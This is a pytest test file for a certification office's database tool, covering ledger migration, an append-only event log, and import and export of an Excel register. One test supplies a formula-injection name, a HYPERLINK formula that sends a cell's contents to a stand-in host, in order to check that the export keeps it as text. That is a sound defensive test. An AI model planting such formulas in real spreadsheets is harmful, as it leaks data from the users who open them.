"""The office database: migrating an existing ledger, the append-only log, refusing to
start anew by accident, and the register read in, changed and written back."""

from __future__ import annotations

import datetime as dt
import json
import shutil
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from cbct_docs.deliver.ledger import Ledger
from cbct_docs.deliver.outbox import Outbox
from cbct_docs.errors import OutputError
from cbct_docs.paths import samples_dir
from cbct_docs.runs.office import OfficeFolder
from cbct_docs.runs.register import export_register
from cbct_docs.store.database import SCHEMA_VERSION, open_database, schema_version

from .registers import edited_register

FIXTURE = Path(__file__).parent / "fixtures" / "ledger-v1.sqlite"
REPO = Path(__file__).resolve().parent.parent


def test_a_ledger_of_the_previous_version_migrates_with_its_records(tmp_path: Path) -> None:
    """tests/fixtures/ledger-v1.sqlite was written by the version before the office
    database: two allocated numbers, one the office chose, two sent e-mails."""
    path = tmp_path / "cbct-ledger.sqlite"
    shutil.copyfile(FIXTURE, path)
    db = open_database(path)
    assert schema_version(db) == SCHEMA_VERSION
    assert db.execute("SELECT count(*) FROM events").fetchone()[0] == 0
    db.close()
    with Ledger(path) as ledger:
        assert [a.number for a in ledger.allocations()] == [
            "KiB-2024-0001", "ZoO-2024-0002", "KiB-2024-0100"]
        # The sequence goes on after what was handed out; a rerun keeps its number.
        assert ledger.allocate_certificate_number("CBCT-0101", "KiB", 2024) == "KiB-2024-0001"
        assert ledger.allocate_certificate_number("CBCT-0102", "KiB", 2025) == "KiB-2025-0004"
    with Outbox(path) as outbox:
        for number in (0, 1):
            entry = outbox.get(f"<msg{number}@cbct.example>")
            assert entry is not None and entry.status == "sent"
    again = open_database(path)  # opening again migrates nothing twice
    assert schema_version(again) == SCHEMA_VERSION
    again.close()


@pytest.mark.parametrize("kept_before", [False, True])
def test_a_database_of_version_2_gets_the_sheet_index(tmp_path: Path, kept_before: bool,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Version 3 adds the index of score sheets read before (store/sheet_index.py), which
    until then was made on first use: a version-2 database has it or not, and keeps its
    records (and a sheet kept before) either way."""
    from cbct_docs.store import sheet_index
    from cbct_docs.store.database import MIGRATIONS
    from cbct_docs.store.sheet_index import SheetIndex

    path = tmp_path / "cbct-ledger.sqlite"
    shutil.copyfile(FIXTURE, path)
    monkeypatch.setattr("cbct_docs.store.database.SCHEMA_VERSION", 2)
    old = open_database(path)  # as the version before made it
    old.execute("INSERT INTO office_meta (key, value) VALUES ('made by', 'version 2')")
    if kept_before:  # as store/sheet_index.py made the table on first use until then
        old.execute(MIGRATIONS[3][0])
        old.execute("INSERT INTO sheet_index VALUES ('ab12', ?, 'CBCT-0101', x'00')",
                    (sheet_index.reader_version(),))
    old.commit()
    assert schema_version(old) == 2
    old.close()
    monkeypatch.undo()
    db = open_database(path)
    assert schema_version(db) == SCHEMA_VERSION == 3
    assert db.execute("SELECT value FROM office_meta").fetchall() == [("version 2",)]
    found = SheetIndex(db).find(["ab12"])
    assert found == ({"ab12": ("CBCT-0101", b"\x00")} if kept_before else {})
    SheetIndex(db).keep([("cd34", "CBCT-0102", b"\x01")])
    assert SheetIndex(db).find(["cd34"]) == {"cd34": ("CBCT-0102", b"\x01")}
    db.close()


def test_the_event_log_is_append_only(tmp_path: Path) -> None:
    db = open_database(tmp_path / "office.sqlite", new_ok=True)
    db.execute("INSERT INTO dossiers (cert_nr, cycle, framework, opened_at) "
               "VALUES ('CBCT-0101', '2025-Q2', 'KiB', 'now')")
    db.execute("INSERT INTO events (dossier_id, kind, day, recorded_at, recorded_by) "
               "VALUES (1, 'aangekondigd', '2025-01-13', 'now', 'test')")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        db.execute("UPDATE events SET day = '2025-01-14'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        db.execute("DELETE FROM events")
    assert db.execute("SELECT day FROM events").fetchall() == [("2025-01-13",)]


def test_an_empty_or_orphaned_database_is_not_started_anew(tmp_path: Path) -> None:
    empty = tmp_path / "cbct-ledger.sqlite"
    empty.touch()
    with pytest.raises(OutputError, match="empty file: its records are gone"):
        open_database(empty)
    orphan = tmp_path / "elsewhere.sqlite"
    Path(str(orphan) + "-wal").write_bytes(b"x" * 100)
    with pytest.raises(OutputError, match="missing but its -wal file is here"):
        open_database(orphan)
    assert not orphan.exists()
    open_database(empty, new_ok=True).close()  # when the user says so


def test_a_newer_schema_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "office.sqlite"
    db = open_database(path, new_ok=True)
    db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    db.close()
    with pytest.raises(OutputError, match="newer than this cbct-docs knows"):
        open_database(path)


def test_reading_an_edited_register_lists_what_changed_and_keeps_decisions(
        tmp_path: Path) -> None:
    office = OfficeFolder(tmp_path, REPO / "cbct-docs.toml", new_database_ok=True,
                          database_file=tmp_path / "db.sqlite")
    first = office.import_register(samples_dir() / "register.xlsx")
    assert len(first) == 14 and all(c.what == "nieuw" for c in first)
    assert office.import_register(samples_dir() / "register.xlsx") == []
    edited = edited_register(tmp_path / "register.xlsx", {"CBCT-0101": {"city": "Buren"}})
    changed = office.import_register(edited)
    assert [str(c) for c in changed] == [
        "CBCT-0101 Bibliotheek Rivierenland: gewijzigd: city: Tiel → Buren"]
    # A decision moved the end date on; the spreadsheet still has the old one.
    from cbct_docs.store.dossiers import write_back_until

    write_back_until(office.database(), "CBCT-0101", dt.date(2029, 3, 31))
    kept = office.import_register(samples_dir() / "register.xlsx")
    assert [str(c) for c in kept] == [
        "CBCT-0101 Bibliotheek Rivierenland: behouden: certified_until 31-3-2029 from the "
        "decision (register says 1-4-2025)",
        "CBCT-0101 Bibliotheek Rivierenland: gewijzigd: city: Buren → Tiel"]
    out = tmp_path / "export.xlsx"
    assert export_register(office, out) == 14
    rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    row = next(r for r in rows if r[0] == "CBCT-0101")
    assert row[10] == dt.datetime(2029, 3, 31)
    with pytest.raises(OutputError, match="exists already"):
        export_register(office, out)


def test_the_exported_register_keeps_a_formula_like_name_as_text(tmp_path: Path) -> None:
    office = OfficeFolder(tmp_path, REPO / "cbct-docs.toml", new_database_ok=True,
                          database_file=tmp_path / "db.sqlite")
    name = '=HYPERLINK("http://x.example/?d="&B1,"Klik hier")'
    office.import_register(edited_register(tmp_path / "register.xlsx",
                                           {"CBCT-0101": {"name": name}}))
    out = tmp_path / "export.xlsx"
    export_register(office, out)
    cell = openpyxl.load_workbook(out).worksheets[0]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)


def test_all_dossiers_read_the_events_data_as_each_dossier_alone(tmp_path: Path) -> None:
    """all_dossiers parses the events' data together; each event has its own data, as
    latest_dossier (one JSON parse per event) reads it, and data that is not one JSON
    value is refused as before (not read as several events' data)."""
    from cbct_docs.store.dossiers import all_dossiers, latest_dossier

    db = open_database(tmp_path / "office.sqlite", new_ok=True)
    for number, cert_nr in enumerate(("CBCT-0101", "CBCT-0102"), start=1):
        db.execute("INSERT INTO dossiers (cert_nr, cycle, framework, opened_at) "
                   "VALUES (?, '2025-Q2', 'KiB', 'now')", (cert_nr,))
        planned = f'{{"dagen": ["2025-05-0{number}"], "n": {number}}}'
        for kind, data in (("aangekondigd", '{"kwartaal": "2025-Q2"}'),
                           ("intake-ontvangen", "{}"), ("audit-gehouden", planned)):
            db.execute("INSERT INTO events (dossier_id, kind, day, data, recorded_at, "
                       "recorded_by) VALUES (?, ?, '2025-01-13', ?, 'now', 'test')",
                       (number, kind, data))
    dossiers = all_dossiers(db)
    for cert_nr in ("CBCT-0101", "CBCT-0102"):
        alone = latest_dossier(db, cert_nr)
        assert alone is not None and dossiers[cert_nr] == alone
    assert [e.data for e in dossiers["CBCT-0102"].state.events] == [
        {"kwartaal": "2025-Q2"}, {}, {"dagen": ["2025-05-02"], "n": 2}]
    first, second = (e.data for e in dossiers["CBCT-0101"].state.events[:2])
    assert first is not second  # each event its own dictionary
    db.execute("INSERT INTO events (dossier_id, kind, day, data, recorded_at, recorded_by) "
               "VALUES (1, 'klacht', '2025-02-01', '1, 2', 'now', 'test')")
    with pytest.raises(json.JSONDecodeError, match="Extra data"):  # as json.loads says
        all_dossiers(db)
